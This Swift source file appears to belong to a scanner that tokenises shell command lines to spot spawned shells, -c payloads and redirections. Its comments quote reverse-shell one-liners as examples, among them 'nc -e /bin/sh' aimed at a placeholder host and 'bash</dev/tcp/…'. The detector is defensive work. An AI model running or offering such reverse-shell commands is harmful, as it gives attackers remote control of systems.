import Bytes

/// One simple command of a command line: words up to `;`, `|`, `&&`, a newline, a bracket or a quote mark around code.
///
/// Quotes are no words here but borders, for what stands in quotes after `-c`, `-e` or `EXEC:` is a command of its own.
/// So `sh -c "nc -e /bin/sh h 1"` gives two: `sh -c` and `nc -e /bin/sh h 1`.
struct SimpleCommand {
  var words: [ByteView]
  /// What ended it: `|`, `;`, `&`, a quote, a bracket; 0 at the end of the text.
  var end: UInt8
  /// What stood before it.
  var before: UInt8
  var range: Range<Int>

  func word(_ index: Int) -> ByteView { index >= 0 && index < words.count ? words[index] : ByteView("") }
}

/// Splits shell text, tolerant of anything: a lexer's view, not a grammar's.
enum ShellWords {
  /// Longer command lines are generated code; only so many commands are looked at.
  static let maximumCommands = 4096

  static func commands(_ text: ByteView) -> [SimpleCommand] {
    var commands: [SimpleCommand] = []
    var words: [ByteView] = []
    var wordStart = 0
    var start = 0
    var before: UInt8 = 0
    func endWord(_ place: Int) {
      if place > wordStart { words.append(text.slice(wordStart, place)) }
    }
    var place = 0
    while place < text.count, commands.count < maximumCommands {
      let byte = text[place]
      switch byte {
      case 0x20, 0x09, 0x0D, 0x00:
        endWord(place)
        wordStart = place + 1
      case 0x21 where wordStart == place || wordStart == place - 1 && text[wordStart] == 0x3A:
        // `!nc …` of a pager, `:!nc …` of an editor: what follows is the command.
        wordStart = place + 1
      case 0x26
      where text[place - 1] == 0x3E || text[place - 1] == 0x3C || text[place + 1] == 0x3E && text[place + 1] != 0x26:
        // >&, <&, &> are redirections.
        break
      case 0x0A, 0x3B, 0x7C, 0x26, 0x22, 0x27, 0x60, 0x28, 0x29:
        endWord(place)
        wordStart = place + 1
        // `2>&1|&` and `||`: the second sign belongs to the first.
        if !words.isEmpty {
          // A copy of just the right size; the list itself is used again.
          let own = words.withUnsafeBufferPointer { Array($0) }
          commands.append(SimpleCommand(words: own, end: byte, before: before, range: start..<place))
          words.removeAll(keepingCapacity: true)
          before = byte
        } else if byte != 0x22 && byte != 0x27 || before == 0 {
          before = byte
        }
        start = place + 1
      case 0x3C where place == wordStart && tagEnd(text, place) != nil:
        // `<string>bash -i …`
        place = tagEnd(text, place) ?? place
        wordStart = place + 1
      case 0x3C where place > wordStart && isShell(text.slice(wordStart, place)):
        // `bash</dev/tcp/…`: the redirection is a word of its own.
        endWord(place)
        wordStart = place
      default: break
      }
      place += 1
    }
    endWord(text.count)
    if !words.isEmpty {
      commands.append(SimpleCommand(words: words, end: 0, before: before, range: start..<text.count))
    }
    return commands
  }

  /// Where a tag of XML ends that begins the text, a line or a string, or follows another.
  private static func tagEnd(_ text: ByteView, _ place: Int) -> Int? {
    guard place == 0 || isAny(text[place - 1], of: "\n>\"'") else { return nil }
    var end = place + 1
    while end - place < 32, isWordByte(text[end]) { end += 1 }
    return end > place + 1 && text[end] == 0x3E ? end : nil
  }

  private static let shells = NameTable([
    "sh", "bash", "dash", "zsh", "ksh", "ash", "csh", "tcsh", "fish", "mksh", "rbash", "busybox", "cmd", "cmd.exe",
    "powershell", "powershell.exe", "pwsh",
  ])

  private static let shellNames: [StaticString] = [
    "sh", "bash", "zsh", "dash", "ksh", "ash", "powershell", "cmd.exe",
  ]

  private static let shellSet = LiteralSet(exact: shellNames + ["cmd"])

  /// Whether a shell's name stands anywhere.
  ///
  /// - Parameter bare: no name counts that a script's follows, or that ends one.
  static func namesShell(_ text: ByteView, bare: Bool = false) -> Bool {
    var isNamed = false
    shellSet.forEachMatch(in: text) { place, name in
      let count = name < shellNames.count ? shellNames[name].utf8CodeUnitCount : 0
      isNamed =
        count > 0 && !isWordByte(text[place - 1]) && !isWordByte(text[place + count])
        || text[place] == 0x63 && isCommandPrompt(text, place)
      if bare, isNamed, count > 0 {
        let isEnding = text[place - 1] == 0x2E && isWordByte(text[place - 2])
        isNamed = !isEnding && !ShellCalls.runsScript(text, place + count)
      }
      return isNamed ? nil : place + 1
    }
    return isNamed
  }

  /// `"cmd"`, `cmd /c`: without either it is a variable.
  private static func isCommandPrompt(_ text: ByteView, _ place: Int) -> Bool {
    guard !isWordByte(text[place - 1]), !isWordByte(text[place + 3]) else { return false }
    return text[place - 1] == 0x22 || text[place - 1] == 0x27 || text[place - 1] == 0x5C
      || text[place + 3] == 0x20 && text[place + 4] == 0x2F
  }

  /// The last part of a path.
  static func baseName(_ word: ByteView) -> ByteView {
    // Words are short: looking at each byte costs less than a call.
    guard word.count <= 64 else {
      guard let slash = word.lastIndex(of: 0x2F) ?? word.lastIndex(of: 0x5C) else { return word }
      return word.slice(slash + 1)
    }
    var start = 0
    var place = word.count
    while place > 0 {
      let byte = word[place - 1]
      if byte == 0x2F { return word.slice(place) }
      if byte == 0x5C, start == 0 { start = place }
      place -= 1
    }
    return start == 0 ? word : word.slice(start)
  }

  /// `bash`, `/bin/sh`, `cmd.exe`; also `$SHELL` and `$0`.
  static func isShell(_ word: ByteView) -> Bool {
    if word.hasPrefix("$SHELL") || word.hasPrefix("${SHELL") || word == "$0" { return true }
    return shells.contains(baseName(word))
  }

  /// A shell that will read commands from its standard input: no script, no `-c`.
  static func isShellReadingInput(_ words: ArraySlice<ByteView>) -> Bool {
    guard let first = words.first, isShell(first) else { return false }
    var isTarget = false
    for word in words.dropFirst() {
      if isTarget {
        isTarget = false
      } else if word.hasPrefix("-") {
        if takesCommand(word) || word == "--version" { return false }
      } else if isRedirection(word) {
        isTarget = isLoneRedirection(word)
      } else {
        return false
      }
    }
    return true
  }

  /// `-c`, `-lc`, `-ic`: the command is the next word.
  static func takesCommand(_ flags: ByteView) -> Bool {
    flags[0] == 0x2D && flags[1] != 0x2D && flags.count <= 6 && flags.firstIndex(of: 0x63) != nil
  }

  /// `<`, `>`, `2>`: the file is the next word.
  static func isLoneRedirection(_ word: ByteView) -> Bool {
    let last = word[word.count - 1]
    return isRedirection(word) && (last == 0x3C || last == 0x3E || last == 0x26)
  }

  /// `2>&1`, `0<&5`, `>/tmp/f`, or the target after a lone `>`.
  static func isRedirection(_ word: ByteView) -> Bool {
    var place = 0
    while place < word.count, word[place] >= 0x30, word[place] <= 0x39 { place += 1 }
    return word[place] == 0x3C || word[place] == 0x3E || word[place] == 0x26
  }

  /// Whether such a word stands in the text with no part of a name beside it.
  static func contains(_ text: ByteView, word: StaticString) -> Bool { place(of: word, in: text) != nil }

  static func place(of word: StaticString, in text: ByteView, from start: Int = 0) -> Int? {
    var from = start
    while let place = text.firstIndex(of: ByteView(word), from: from) {
      if !isWordByte(text[place - 1]), !isWordByte(text[place + word.utf8CodeUnitCount]) { return place }
      from = place + 1
    }
    return nil
  }
}
